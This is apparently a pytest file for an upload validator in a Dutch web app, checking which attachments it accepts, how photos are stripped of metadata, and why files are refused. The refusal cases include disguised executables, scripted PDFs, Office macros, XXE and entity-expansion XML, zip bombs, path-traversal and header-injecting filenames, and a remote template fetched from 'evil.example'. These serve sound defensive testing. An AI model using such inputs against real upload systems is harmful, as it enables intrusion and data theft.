"""Which files are taken, what becomes of photos, and why others are refused (TRUST, Attachments)."""

from __future__ import annotations

import io
import tracemalloc
import zipfile
from pathlib import Path
from time import monotonic

import pytest
from PIL import Image

from app.attachments import apart, files, names, office
from app.errors import Invalid
from app.web.messages import MESSAGES
from tests.attachments import corpus

GOOD = {
    "foto.jpg": corpus.photo(), "FOTO.JPEG": corpus.photo(), "kaart.png": corpus.photo("PNG"),
    "plaat.webp": corpus.photo("WEBP"), "IMG_0042.HEIC": corpus.photo("HEIF"), "brief.pdf": corpus.pdf(),
    "nota.docx": corpus.docx(), "tabel.xlsx": corpus.docx("xlsx"), "nota.odt": corpus.odf(),
    "tabel.ods": corpus.odf("ods"),
    "notitie.txt": "Café: één regel.\n".encode(), "oud.txt": "Café\r\n".encode("cp1252"),
    "lijst.csv": b"regio;aantal\nNoord;3\n",
}  # fmt: skip


@pytest.mark.parametrize("name", GOOD)
def test_files_of_the_kinds_we_take(name: str) -> None:
    found = files.read(io.BytesIO(GOOD[name]), name)
    assert found.kind.value in {**files.BY_EXTENSION, "jpeg": ""}
    assert found.size > 0
    assert len(found.digest) == 64
    assert found.name == {"IMG_0042.HEIC": "IMG_0042.jpg"}.get(name, name)


BAD: dict[str, tuple[str, bytes, str]] = {
    # Types: Open Forms CVE-2022-31041 (another type behind an extension), Roundup CVE-2024-39126 (SVG, PDF scripts)
    "svg": ("tekening.svg", corpus.SVG, "file_not_taken"),
    "svg as png": ("tekening.png", corpus.SVG, "file_other_kind"),
    "svg as text": ("tekening.txt", corpus.SVG, "file_other_kind"),
    "html": ("pagina.html", b"<html><script>1</script>", "file_not_taken"),
    "html as csv": ("pagina.csv", b" \n<!DOCTYPE html><script>1</script>", "file_other_kind"),
    "program": ("kosten.exe", b"MZ" + b"\0" * 99, "file_not_taken"),
    "program as pdf": ("kosten.pdf", b"MZ" + b"\0" * 99, "file_other_kind"),
    "program as text": ("kosten.txt", b"MZ" + b"a" * 99, "file_other_kind"),
    "no extension": ("kosten", corpus.pdf(), "file_not_taken"),
    "archive": ("alles.zip", corpus.package({"a": "b"}), "file_not_taken"),
    "archive as docx": ("alles.docx", corpus.package({"a": "b"}), "file_broken"),
    "png called jpg": ("foto.jpg", corpus.photo("PNG"), "file_other_kind"),
    "workbook called document": ("nota.docx", corpus.docx("xlsx"), "file_broken"),
    "sheet called text": ("nota.odt", corpus.odf("ods"), "file_other_kind"),
    "old office": ("nota.docx", corpus.OLE, "file_old_or_locked_named"),
    # Photos
    "photo cut off": ("foto.jpg", corpus.photo()[:-200], "file_broken"),
    "photo of 900 million pixels": ("foto.png", corpus.huge_png(), "photo_too_large"),
    "photo of 40,020,000 pixels": ("foto.png", corpus.huge_png(8004, 5000), "photo_too_large"),
    # PDF
    "pdf cut off": ("brief.pdf", b"%PDF-1.7\n1 0 obj", "file_broken"),
    "pdf with a script": ("brief.pdf", corpus.pdf(script=True), "pdf_runs"),
    "pdf that starts a program": ("brief.pdf", corpus.pdf(launch=True), "pdf_runs"),
    "pdf with a packed script": ("brief.pdf", corpus.pdf(packed=True), "pdf_runs"),
    "pdf with a spelled script": ("brief.pdf", corpus.pdf() + b"\n9 0 obj<</S/J#61v#61Script>>endobj", "pdf_runs"),
    "pdf with a password": ("brief.pdf", corpus.pdf(password="geheim"), "file_locked"),
    # Office
    "macros": ("nota.docx", corpus.docx(word__vbaProject_d_bin=b"x"), "office_macros"),
    "macro type": ("nota.docx", corpus.docx(macro_type=True), "office_macros"),
    "basic": ("nota.odt", corpus.odf(Basic__Standard__Module1_d_xml="<a/>"), "office_macros"),
    "docm": ("nota.docm", corpus.docx(macro_type=True), "file_not_taken"),
    "ole inside": ("nota.docx", corpus.docx(word__embeddings__oleObject1_d_bin=corpus.OLE), "zip_nested"),
    "zip inside": ("nota.docx", corpus.docx(word__embeddings__a_d_xlsx=corpus.docx("xlsx")), "zip_nested"),
    "program inside": ("nota.docx", corpus.docx(word__media__a_d_png=b"MZ" + b"\0" * 99), "file_not_taken"),
    "external entity": ("nota.docx", corpus.docx(word__x_d_xml=corpus.XXE), "office_unsafe_xml"),
    "entities of entities": ("nota.odt", corpus.odf(styles_d_xml=corpus.LAUGHS), "office_unsafe_xml"),
    "xml cut off": ("nota.docx", corpus.docx(word__x_d_xml="<a><b>"), "office_unsafe_xml"),
    "zip bomb": ("nota.docx", corpus.docx(word__x_d_xml=b" " * 3_000_000 + b"<a/>"), "zip_bomb"),
    "too many parts": ("nota.odt", corpus.odf(**{f"p{n}": "" for n in range(2001)}), "zip_too_many"),
    "path out of the zip": ("nota.docx", corpus.docx(**{"..__..__etc__x": "y"}), "file_broken"),
    "template from the internet": (
        "nota.docx",
        corpus.docx(
            word___rels__settings_d_xml_d_rels='<R><R Type="http://x/attachedTemplate" TargetMode="External" '
            'Target="https://evil.example/a.dotm"/></R>'
        ),
        "office_fetches",
    ),
    "locked odf": ("nota.odt", corpus.odf(manifest="<m><e><encryption-data/></e></m>"), "file_locked"),
    # Texts
    "NUL": ("notitie.txt", b"a\x00b", "text_unreadable"),
    "escape": ("notitie.txt", b"a\x1b[2Jb", "text_unreadable"),
    "no text": ("lijst.csv", bytes(range(128, 160)) * 9, "text_unreadable"),
    # Sizes
    "nothing": ("notitie.txt", b"", "file_empty_named"),
    "spaces": ("notitie.txt", b" \n", "file_empty_named"),
    "oversize": ("notitie.txt", b"a" * (files.MAX_BYTES + 1), "file_too_large_named"),
}


@pytest.mark.parametrize("what", BAD)
def test_what_is_refused_and_why(what: str) -> None:
    name, content, code = BAD[what]
    with pytest.raises(Invalid) as refused:
        files.read(io.BytesIO(content), name)
    (error,) = refused.value.errors
    assert (error.field, error.code) == ("files", code)
    assert error.code in MESSAGES
    assert error.params["name"] == names.clean(name)


@pytest.mark.parametrize(
    ("form", "name"), [("JPEG", "a.jpg"), ("PNG", "a.png"), ("WEBP", "a.webp"), ("HEIF", "a.heic")]
)
def test_a_photo_is_made_anew_upright_and_without_its_place(form: str, name: str) -> None:
    given = corpus.photo(form, (60, 30), located=True)
    found = files.read(io.BytesIO(given), name)
    made = found.stream.read()
    assert b"CANARY" in given
    assert b"CANARY" not in made
    with Image.open(io.BytesIO(made)) as image:
        assert not image.getexif()
        assert not ({"exif", "xmp", "icc_profile", "comment"} & set(image.info))
        assert image.size == (30, 60), "it lay on its side"
        assert image.convert("RGB").getpixel((15, 5))[0] > 200, "red is above now"


def test_what_hangs_behind_a_photo_is_gone() -> None:
    found = files.read(io.BytesIO(corpus.photo() + b"PK\x03\x04 and a whole archive"), "foto.jpg")
    assert b"archive" not in found.stream.read()


def test_a_zip_that_lies_about_its_sizes_takes_no_memory() -> None:
    raw = bytearray(corpus.docx(word__x_d_xml=b" " * 30_000_000 + b"<a/>"))
    size = (30_000_004).to_bytes(4, "little")
    while size in raw:  # both in the list and before the member
        at = raw.index(size)
        raw[at : at + 4] = (4000).to_bytes(4, "little")
    tracemalloc.start()
    with pytest.raises(Invalid) as refused:
        files.read(io.BytesIO(bytes(raw)), "nota.docx")
    _now, most = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert refused.value.errors[0].code == "file_broken"
    assert most < 8_000_000


def test_the_ratio_is_that_of_what_is_packed(monkeypatch: pytest.MonkeyPatch) -> None:
    """Just within the limits is taken: a long sheet of one word."""
    monkeypatch.setattr(office, "MAX_MEMBERS", 5)
    rows = "".join(f"<r n='{n}'>Noord</r>" for n in range(60_000))
    content = corpus.docx("xlsx", xl__sheet_d_xml=f"<a>{rows}</a>")
    with zipfile.ZipFile(io.BytesIO(content)) as made:
        assert made.getinfo("xl/sheet.xml").file_size > office.SMALL
    assert files.read(io.BytesIO(content), "tabel.xlsx").kind.value == "xlsx"


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("../../etc/passwd.txt", "passwd.txt"),
        ("C:\\Users\\jan\\brief.pdf", "brief.pdf"),
        ("a\x00b.pdf", "ab.pdf"),
        ("factuur\u202efdp.exe", "factuurfdp.exe"),
        ("brief\r\nSet-Cookie: a=b.pdf", "brief Set-Cookie_ a=b.pdf"),
        ("CON.txt", "_CON.txt"),
        ("lpt1.pdf", "_lpt1.pdf"),
        (".pdf", "bestand.pdf"),
        ("", "bestand"),
        (None, "bestand"),
        ("..", "bestand"),
        ("cafe\u0301.pdf", "café.pdf"),
        ("a  <b>\"'.pdf", "a _b__'.pdf"),
        ("\ud800.pdf", "bestand.pdf"),
        ("verslag.pdf. . ", "verslag.pdf"),
    ],
)
def test_names_are_made_plain(written: str | None, shown: str) -> None:
    assert names.clean(written) == shown
    assert names.clean(shown) == shown


def test_a_long_name_keeps_its_extension() -> None:
    found = names.clean("é" * 300 + ".pdf")
    assert len(found.encode()) <= names.MAX_BYTES
    assert found.endswith("é.pdf")


def test_a_tree_of_pages_without_end_is_not_walked() -> None:
    before = monotonic()
    files.read(io.BytesIO(corpus.endless_pdf()), "brief.pdf")
    assert monotonic() - before < 10


def test_a_pdf_that_swells_is_given_up() -> None:
    with pytest.raises(Invalid) as refused:
        files.read(io.BytesIO(corpus.swelling_pdf()), "brief.pdf")
    assert refused.value.errors[0].code == "file_too_complex"


@pytest.mark.parametrize(
    "program", ["import time; time.sleep(9)", "x = bytearray(3_000_000_000)", "import os; os.abort()"]
)
def test_what_runs_on_or_falls_over_costs_only_its_own_process(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, program: str
) -> None:
    limits = "import resource; resource.setrlimit(resource.RLIMIT_AS, (10**9, 10**9))\n"
    (tmp_path / "pdf.py").write_text(limits + program)
    monkeypatch.setattr(apart, "PROGRAMS", tmp_path)
    monkeypatch.setattr(apart, "SECONDS", 1)
    with pytest.raises(Invalid) as refused:
        files.read(io.BytesIO(corpus.pdf()), "brief.pdf")
    assert refused.value.errors[0].code == "file_too_complex"


def test_the_process_of_a_file_knows_no_secret(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "photo.py").write_text("import os; print(sorted(os.environ))")
    monkeypatch.setattr(apart, "PROGRAMS", tmp_path)
    monkeypatch.setenv("SECRET_KEY", "canary")
    found = files.read(io.BytesIO(corpus.photo()), "foto.jpg")
    assert b"SECRET_KEY" not in found.stream.read()
